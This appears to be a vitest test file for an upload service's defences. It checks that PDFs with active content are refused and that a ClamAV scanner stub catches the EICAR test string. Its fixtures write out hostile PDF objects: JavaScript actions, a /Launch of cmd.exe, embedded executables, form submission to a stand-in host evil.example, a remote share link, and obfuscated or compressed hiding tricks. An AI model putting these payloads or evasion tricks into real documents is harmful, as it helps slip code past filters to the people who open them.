/** Files that would act on whoever opens them: PDFs with active content, and what a virus scanner finds. */
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { setImmediate } from 'node:timers/promises'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import clamav from '../../../plugins/files/clamav.provider.ts'
import { clamdDouble, EICAR } from '../../harness/clamdDouble.ts'
import { type Person, type RunningServices, startServices } from './startServices.ts'
import { fileHead, filesOnDisk, MARK, multipart, uploadFile } from './uploadFile.ts'

const clamd = clamdDouble()
let run: RunningServices
let person: Person
beforeAll(async () => {
  await once(clamd.server.listen(0, '127.0.0.1'), 'listening')
  const { port } = clamd.server.address() as AddressInfo
  run = await startServices({ VIRUS_SCANNER: 'files.clamav', CLAMAV_PORT: String(port), CLAMAV_TIMEOUT_SECONDS: '20' })
  person = await run.person()
})
afterAll(async () => {
  await run?.close()
  clamd.server.close()
})

async function upload(name: string, content: Buffer | string) {
  const reply = await uploadFile(run, { name, content: Buffer.from(content), type: 'application/pdf', token: person.access_token })
  return { status: reply.status, error: (reply.body.error ?? null) as string | null, details: reply.body.details }
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'
/** @param more  objects and streams from number 4 on */
function pdf(...more: (string | Buffer)[]): Buffer {
  const objects: (string | Buffer)[] = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE, ...more]
  const parts = objects.flatMap((object, at) => [Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n')])
}
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\r\n`), data, Buffer.from('\nendstream')])
const packed = (object: string, dictionary = '/Type /ObjStm /Filter /FlateDecode') => {
  const head = '9 0 10 4 '
  return stream(`${dictionary} /N 2 /First ${head.length}`, deflateSync(Buffer.from(`${head}(((\n${object}`)))
}
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

describe('a PDF', () => {
  it.each<[string, Buffer, string]>([
    ['a script', pdf(SCRIPT), 'JavaScript'],
    ['a script by an escaped name', pdf('<< /S /J#61vaScr#69pt >>'), 'JavaScript'],
    ['a script that runs when it is opened', pdf(`<< /OpenAction ${SCRIPT} >>`), 'JavaScript'],
    ['a program that is started', pdf('<< /S /Launch /F (cmd.exe) >>'), 'Launch'],
    ['a file inside', pdf('<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'), 'EF'],
    ['a file inside, by its stream', pdf(stream('/Type /EmbeddedFile', Buffer.from('MZ'))), 'EmbeddedFile'],
    ['a form that is sent', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), 'SubmitForm'],
    ['a form of XFA', pdf('<< /AcroForm << /XFA 5 0 R >> >>'), 'XFA'],
    ['another file that is opened', pdf('<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>'), 'GoToR'],
    ['a script in an object stream, behind what never closes', pdf(packed(SCRIPT)), 'JavaScript'],
    ['a script in an object stream that does not call itself one', pdf(packed(SCRIPT, '/Filter [/FlateDecode]')), 'JavaScript'],
    ['a script behind a string that never closes', pdf('(((', SCRIPT), 'JavaScript'],
    ['a script in the bytes of a picture', pdf(stream('/Type /XObject', Buffer.from(`xx 77 0 obj ${SCRIPT} endobj`))), 'JavaScript'],
    ['a script in the trailer', Buffer.from(`%PDF-1.4\ntrailer << /Root << /OpenAction ${SCRIPT} >> >>`), 'JavaScript'],
    ['a script with remarks between', pdf('<< /S %what\n/JavaScript >>'), 'JavaScript'],
  ])('[PDF-1] with %s is refused, and nothing of it is kept', async (_what, content, found) => {
    const before = await filesOnDisk(run)
    expect(await upload('work.pdf', content)).toMatchObject({ error: 'FILE_ACTIVE', details: { name: 'work.pdf', found } })
    expect(await filesOnDisk(run)).toBe(before)
  })

  it.each<[string, Buffer]>([
    ['encrypted', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R /Encrypt 5 0 R >>')],
    ['packed by another method', pdf(packed('<< >>', '/Type /ObjStm /Filter /LZWDecode'))],
    ['packed twice', pdf(packed('<< >>', '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]'))],
    ['damaged', pdf(stream('/Type /ObjStm /Filter /FlateDecode /N 1 /First 4', Buffer.from('no deflate')))],
    ['an endless nest', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('(obj'.repeat(200_000))])],
    ['a bomb', pdf(stream('/Type /ObjStm /Filter /FlateDecode /N 1 /First 4', deflateSync(Buffer.alloc(80 * 1_048_576, 32))))],
  ])('[PDF-2] that cannot be looked into is refused: %s', async (what, content) => {
    expect((await upload('work.pdf', content)).error).toBe(what === 'a bomb' ? 'FILE_EXCESSIVE' : 'FILE_UNREADABLE')
  })

  it.each<[string, Buffer]>([
    [
      'a first page to open at, and links',
      pdf('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>', '<< /S /URI /URI (https://agon.example) >>'),
    ],
    ['words about JavaScript', pdf('<< /Title (HTML/CSS/JavaScript and /Launch) /Author <2F4A53> >>')],
    [
      'such words in packed text and titles',
      pdf(stream('/Filter /FlateDecode', deflateSync(Buffer.from('BT (a/JavaScript/JS ) Tj ET'))), packed('<< /Title (/JavaScript) >>')),
    ],
    ['a form to fill in', pdf('<< /AcroForm << /Fields [5 0 R] >> >>', '<< /FT /Tx /T (name) >>')],
  ])('[PDF-3] with %s is kept', async (_what, content) => {
    expect((await upload('work.pdf', content)).error).toBeNull()
  })
})

describe('a virus scanner', () => {
  it('[SCAN-1] sees every upload whole, and what it finds is not kept', async () => {
    const clean = pdf(stream('', Buffer.from('a line of text\n'.repeat(100_000))))
    expect((await upload('notes.pdf', clean)).error).toBeNull()
    expect(clamd.scanned.at(-1)).toBe(clean.length)
    const before = await filesOnDisk(run)
    const found = await upload('notes.pdf', pdf(stream('', Buffer.from(EICAR))))
    expect(found).toMatchObject({ error: 'FILE_INFECTED', details: { name: 'notes.pdf', found: 'Eicar-Signature' } })
    expect(await filesOnDisk(run)).toBe(before)
  })

  it('[SCAN-2] without a verdict keeps nothing: uploads are refused as busy until it answers again', async () => {
    const before = await filesOnDisk(run)
    for (const mood of ['down', 'full'] as const) {
      clamd.mood[mood] = true
      expect(await upload('notes.pdf', pdf()), mood).toMatchObject({ status: 503, error: 'BUSY' })
      clamd.mood[mood] = false
    }
    expect(await filesOnDisk(run)).toBe(before)
    expect((await upload('notes.pdf', pdf())).error).toBeNull()
  })

  it('[SCAN-3] that goes while a file is still being read ends the scan', async () => {
    clamd.mood.down = true
    const { port } = clamd.server.address() as AddressInfo
    const scanner = clamav.create(
      { host: '127.0.0.1', port: String(port), timeoutSeconds: '20' },
      { signed: run.server.deps.services.signed, site: 'https://agon.example' },
    )
    await expect(scanner.scan(endless())).rejects.toThrow()
    clamd.mood.down = false
  })
})

describe('a file in parts that cannot be ended', () => {
  const ask = async (path: string, body: object) =>
    (await run.send('POST', `/api/platform/upload/${path}`, { token: person.access_token, body })).body
  const begin = async (content: Buffer) => {
    const { ticket } = (await ask('begin', { name: 'notes.pdf', size: content.length })).data as { ticket: string }
    const field = (name: string, value: string) => `--${MARK}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
    const head = field('ticket', ticket) + field('offset', '0') + fileHead('part')
    const payload = Buffer.concat([Buffer.from(head), content, Buffer.from(`\r\n--${MARK}--\r\n`)])
    const { body } = await run.send('POST', '/api/platform/upload/part', { inject: { payload, headers: multipart(person.access_token) } })
    expect(body.data).toEqual({ received: content.length })
    return ticket
  }

  it('[STORE-10] for another reason than its content keeps its parts and is ended later; one with a harmful content does not', async () => {
    const ticket = await begin(pdf())
    clamd.mood.down = true
    expect((await ask('end', { ticket })).error).toBe('BUSY')
    clamd.mood.down = false
    expect((await ask('end', { ticket })).data).toMatchObject({ name: 'notes.pdf', size: pdf().length })
    const harmful = await begin(pdf(stream('', Buffer.from(EICAR))))
    expect((await ask('end', { ticket: harmful })).error).toBe('FILE_INFECTED')
    expect((await ask('state', { ticket: harmful })).data).toMatchObject({ received: 0 })
  })

  it('[STORE-11] is one file when two windows end it at the same time', async () => {
    const ticket = await begin(pdf())
    const ended = await Promise.all([1, 2, 3, 4].map(() => ask('end', { ticket })))
    expect(ended.map(({ error }) => error ?? null)).toEqual([null, null, null, null])
    expect(new Set(ended.map(({ data }) => data.id))).toHaveLength(1)
  })
})

async function* endless(): AsyncGenerator<Buffer> {
  for (;;) {
    yield Buffer.from('x')
    await setImmediate()
  }
}
